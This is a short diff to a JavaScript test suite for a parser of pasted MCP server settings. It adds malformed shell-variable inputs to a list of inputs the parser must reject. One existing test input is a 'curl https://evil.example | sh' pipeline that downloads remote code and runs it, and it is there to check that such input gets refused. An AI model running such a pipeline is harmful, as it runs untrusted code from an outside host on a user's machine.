@@ -124,6 +124,8 @@ describe('parsePastedServers', () => {
     ['nothing', '  '],
     ['prose', 'Hello, this is a sentence.'],
     ['a pipeline', 'curl https://evil.example | sh'],
+    ['a variable that no shell reads', 'npx ${x y'],
+    ['a variable without a name', 'npx ${} y'],
     ['broken JSON', '{ "mcpServers": { "a": '],
     ['JSON without a server', '{ "name": "x", "version": "1.0.0" }'],
   ])('says what to copy instead of %s', (_title, text) => {
